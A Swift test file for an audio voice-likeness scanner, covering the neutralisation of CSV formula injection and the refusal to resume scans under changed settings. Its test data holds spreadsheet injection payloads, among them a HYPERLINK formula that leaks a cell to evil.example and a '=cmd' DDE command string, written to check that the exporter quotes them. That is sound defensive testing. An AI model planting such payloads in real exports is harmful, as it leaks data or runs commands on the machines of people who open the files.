import Foundation
import LikenessRegistry
import LikenessScan
import LikenessScoring
import LikenessVoiceprint
import Testing
import LikenessTestSupport

@Suite("CSV formula neutralisation")
struct CSVInjectionTests {
    static let dangerous = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\").wav", "+1+cmd.wav", "-2+3.wav", "@SUM(1+1).wav",
        "\tTAB=1.wav", "\rCR.wav", "\r\nCRLF.wav", "'already quoted.wav",
    ]

    static func result(file: String) -> FileResult {
        FileResult(
            path: ScanPath(file), sha256: "ab", durationSeconds: 5, speechSeconds: 4, windows: nil, speechWindows: nil,
            hits: [
                ScanHit(artist: "-artist", name: "=cmd|' /C calc'!A0", score: -0.25, bestClipScore: -0.5, llr: -3.4538776,
                        log10LR: -1.5, percentile: 0.1, rank: 1, selectedBy: .top, segments: []),
            ],
            warnings: ["=warning"], seconds: 0.5)
    }

    @Test("text cells starting with = + - @ tab or CR get a leading quote; numbers stay numbers; everything reads back")
    func neutralised() throws {
        var data = ScanFormat.csv.header ?? Data()
        var written: [ScanRecord] = []
        for name in Self.dangerous {
            let records = ScanRecord.records(for: Self.result(file: name), modelID: "m", scannedAt: "t")
            for r in records { data += try ScanFormat.csv.encode(r) }
            written += records
        }
        let error = ScanRecord.records(for: FileResult(path: ScanPath("@err.wav"), error: "-bad header: =1+1"),
                                       modelID: "m", scannedAt: "t")
        data += try ScanFormat.csv.encode(error[0])
        written += error

        let rows = csvCells(String(decoding: data, as: UTF8.self))
        let header = try #require(rows.first)
        #expect(header == ScanFormat.csvColumns)
        let column = Dictionary(uniqueKeysWithValues: header.enumerated().map { ($1, $0) })
        func cell(_ row: [String], _ name: String) -> String { row[column[name]!] }
        #expect(rows.count == written.count + 1)
        for (row, record) in zip(rows.dropFirst(), written) {
            #expect(row.count == header.count)
            #expect(cell(row, "file") == "'" + record.file, "file \(record.file.debugDescription)")
            for text in ["file", "artist", "name", "error"] {
                let value = cell(row, text)
                #expect(value.isEmpty || !["=", "+", "-", "@", "\t", "\r"].contains(where: { value.hasPrefix($0) }),
                        "\(text) cell \(value.debugDescription) could run as a formula")
            }
        }
        let hit = rows[1]
        #expect(cell(hit, "file") == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\").wav")
        #expect(cell(hit, "artist") == "'-artist")
        #expect(cell(hit, "name") == "'=cmd|' /C calc'!A0")
        #expect(cell(hit, "score") == "-0.25" && cell(hit, "best_clip_score") == "-0.5", "numbers are not prefixed")
        #expect(cell(hit, "llr") == "-3.453878" && cell(hit, "log10_lr") == "-1.5")
        #expect(cell(hit, "warnings") == "[\"=warning\"]", "JSON cells start with [ or {: nothing to neutralise")
        #expect(cell(rows.last!, "error") == "'-bad header: =1+1")
        #expect(cell(rows.last!, "file") == "'@err.wav")

        let parsed = try ScanFormat.csv.parse(data)
        #expect(parsed.validLength == data.count)
        #expect(parsed.records == written, "the quote is dropped on reading: resume sees the real names")
    }

    @Test("harmless text is left alone, and JSON Lines is never prefixed")
    func untouched() throws {
        let records = ScanRecord.records(for: Self.result(file: "a-b=c.wav"), modelID: "m", scannedAt: "t")
        let csv = csvCells(String(decoding: try ScanFormat.csv.encode(records[0]), as: UTF8.self))[0]
        #expect(csv[1] == "a-b=c.wav")
        let json = try ScanFormat.jsonl.encode(ScanRecord.records(for: Self.result(file: "=1+1.wav"), modelID: "m", scannedAt: "t")[0])
        let object = try #require(try JSONSerialization.jsonObject(with: json) as? [String: Any])
        #expect(object["file"] as? String == "=1+1.wav")
        #expect(object["log10_lr"] as? Double == -1.5)
    }
}

@Suite("resume refuses other settings")
struct ResumeSettingsTests {
    static func scorer(artists: [String]? = nil, calibrated: Bool = false) throws -> ArtistScorer {
        let (index, _) = try makeIndex(artists: 4, dimension: 8)
        let calibration = calibrated
            ? CalibrationModel(modelID: "test", calibration: LinearCalibration(scale: 2.5, offset: -1), normalization: nil,
                               fittedOn: [], fittingScores: TrialScores(targets: [1, 2], nontargets: [-1, -2]), toolVersion: "t")
            : nil
        return try ArtistScorer(index: index, artists: artists, calibration: calibration)
    }

    static func options(_ rule: HitRule = .top(1), window: Double = 3) -> ScanOptions {
        var o = ScanOptions()
        o.hitRule = rule
        o.windowSeconds = window
        return o
    }

    static func records(settings: ScanSettings?, modelID: String = "test") -> [ScanRecord] {
        ScanRecord.records(for: FileResult(path: ScanPath("a.wav"), sha256: "aa", seconds: 1), modelID: modelID,
                           scannedAt: "t", settings: settings)
    }

    @Test("the settings name the hit rule, the windows, the artist filter and the calibration")
    func settings() throws {
        let plain = ScanSettings(options: Self.options(), scorer: try Self.scorer())
        #expect(plain.hits == "--top 1")
        #expect(plain.segments == "cosine >= \(ScanOptions.defaultWindowMinScore)")
        #expect(plain.artists == nil, "every artist of the index: no filter")
        #expect(plain.calibration == nil && plain.cohort == nil)
        let filtered = ScanSettings(options: Self.options(.minLog10LR(2)), scorer: try Self.scorer(artists: ["artist-2", "artist-0"], calibrated: true))
        #expect(filtered.hits == "--threshold 2")
        #expect(filtered.segments == "log10 LR >= 2")
        #expect(filtered.artists == ["artist-0", "artist-2"])
        #expect(filtered.calibration == "scale 2.5 offset -1")
        #expect(ScanSettings(options: Self.options(.minScore(0.75)), scorer: try Self.scorer()).hits == "--min-score 0.75")

        #expect(filtered.differences(from: filtered).isEmpty)
        let changed = ScanSettings(options: Self.options(.minLog10LR(3), window: 4), scorer: try Self.scorer(artists: ["artist-0"], calibrated: true))
        #expect(changed.differences(from: filtered) == [
            "hit rule --threshold 2 (this run: --threshold 3)", "segment rule log10 LR >= 2 (this run: log10 LR >= 3)",
            "--window 3 (this run: 4)", "--artist artist-0,artist-2 (this run: artist-0)",
        ])
        #expect(plain.differences(from: filtered).contains("calibration scale 2.5 offset -1 (this run: none)"))
        #expect(plain.differences(from: filtered).contains("--artist artist-0,artist-2 (this run: (all enrolled))"))

        // Rows of an older analysis method are not appended to silently.
        #expect(plain.analysis == ScanSettings.currentAnalysis)
        var older = plain
        older.analysis = "windows embedded one by one (v0)"
        #expect(plain.differences(from: older) == ["analysis windows embedded one by one (v0) (this run: \(ScanSettings.currentAnalysis))"])

        // int8 scores differ slightly from float32 ones: a resume must not mix them.
        let fast = ScanSettings(options: Self.options(), scorer: try Self.scorer(), precision: .int8)
        #expect(fast.analysis == ScanSettings.currentAnalysis + "; int8 LSTM products")
        #expect(fast.differences(from: plain).count == 1)
    }

    @Test("checkSettings: same settings pass, others are refused in one line naming them, unrecorded ones too")
    func check() throws {
        let original = ScanSettings(options: Self.options(.minScore(0.7)), scorer: try Self.scorer())
        try ResumeIndex(records: []).checkSettings(original, modelID: "test", path: "out.jsonl")
        let index = ResumeIndex(records: Self.records(settings: original))
        try index.checkSettings(original, modelID: "test", path: "out.jsonl")

        let raised = ScanSettings(options: Self.options(.minScore(0.8)), scorer: try Self.scorer())
        let error = #expect(throws: ScanOutputError.self) { try index.checkSettings(raised, modelID: "test", path: "out.jsonl") }
        let text = try #require(error?.description)
        #expect(!text.contains("\n"))
        #expect(text.hasPrefix("out.jsonl was scanned with other settings: hit rule --min-score 0.7 (this run: --min-score 0.8)"))
        #expect(text.contains("--force"))

        let model = #expect(throws: ScanOutputError.self) { try index.checkSettings(original, modelID: "other", path: "o") }
        #expect(model?.description.contains("model test (this run: other)") == true)

        let legacy = ResumeIndex(records: Self.records(settings: nil))
        let unknown = #expect(throws: ScanOutputError.self) { try legacy.checkSettings(original, modelID: "test", path: "old.csv") }
        #expect(unknown?.description.hasPrefix("old.csv does not record the settings") == true)

        // After a forced resume the latest run's settings are the ones to match.
        let mixed = ResumeIndex(records: Self.records(settings: original) + Self.records(settings: raised))
        try mixed.checkSettings(raised, modelID: "test", path: "o")
        #expect(throws: ScanOutputError.self) { try mixed.checkSettings(original, modelID: "test", path: "o") }
    }

    @Test("CSV: every row carries the settings; a CSV written before them is resumed in its own columns")
    func csvSettingsColumn() throws {
        let settings = ScanSettings(options: Self.options(.minLog10LR(2)), scorer: try Self.scorer(calibrated: true))
        let line = try ScanFormat.csv.encode(Self.records(settings: settings)[0])
        let cells = csvCells(String(decoding: line, as: UTF8.self))[0]
        #expect(ScanFormat.csvColumns.last == "settings")
        let json = try #require(try JSONSerialization.jsonObject(with: Data(cells.last!.utf8)) as? [String: Any])
        #expect(json["hits"] as? String == "--threshold 2")
        #expect(try ScanFormat.csv.parse((ScanFormat.csv.header ?? Data()) + line).records.first?.settings == settings)

        // Older files, with the header an older likeness wrote: before the synthetic-speech columns, and also
        // before `settings`. Each is read and resumed in its own columns.
        let beforeSynthetic = ["kind", "file", "sha256", "artist", "name", "score", "best_clip_score", "llr", "log10_lr",
                               "percentile", "rank", "selected_by", "duration_seconds", "speech_seconds", "windows",
                               "speech_windows", "segments", "seconds", "row", "rows", "error", "warnings", "model_id",
                               "scanned_at", "settings"]
        for (name, columns) in [("synthetic", beforeSynthetic), ("settings", Array(beforeSynthetic.dropLast()))] {
            let written = Self.records(settings: columns.contains("settings") ? settings : nil)[0]
            let cells = csvCells(String(decoding: try ScanFormat.csv.encode(written), as: UTF8.self))[0]
            let byColumn = Dictionary(uniqueKeysWithValues: zip(ScanFormat.csvColumns, cells))
            let quoted = columns.map { "\"" + byColumn[$0]!.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
            let dir = try Support.temporaryDirectory()
            let path = dir.appendingPathComponent("before-\(name).csv").path
            try Data((columns.joined(separator: ",") + "\n" + quoted.joined(separator: ",") + "\n").utf8)
                .write(to: URL(fileURLWithPath: path))
            let (out, index) = try ScanOutput.open(path: path, format: .csv, resume: true)
            #expect(index.records == [written], "a file written before the \(name) column(s) reads back")
            try out.write(ScanRecord.records(for: FileResult(path: ScanPath("b.wav"), sha256: "bb", seconds: 1), modelID: "test",
                                             scannedAt: "t", settings: settings))
            out.close()
            let text = try String(contentsOfFile: path, encoding: .utf8)
            let rows = csvCells(text)
            #expect(rows.count == 3)
            #expect(rows.allSatisfy { $0.count == columns.count }, "appended rows keep the file's columns")
            #expect(try ScanFormat.csv.parse(Data(text.utf8)).records.map(\.file) == ["a.wav", "b.wav"])
        }
    }

    @Test("a CSV header cut off by a kill is started over")
    func tornHeader() throws {
        let dir = try Support.temporaryDirectory()
        let path = dir.appendingPathComponent("torn.csv").path
        try (ScanFormat.csv.header ?? Data()).prefix(20).write(to: URL(fileURLWithPath: path))
        let (out, index) = try ScanOutput.open(path: path, format: .csv, resume: true)
        out.close()
        #expect(index.records.isEmpty)
        #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == ScanFormat.csv.header)
    }
}
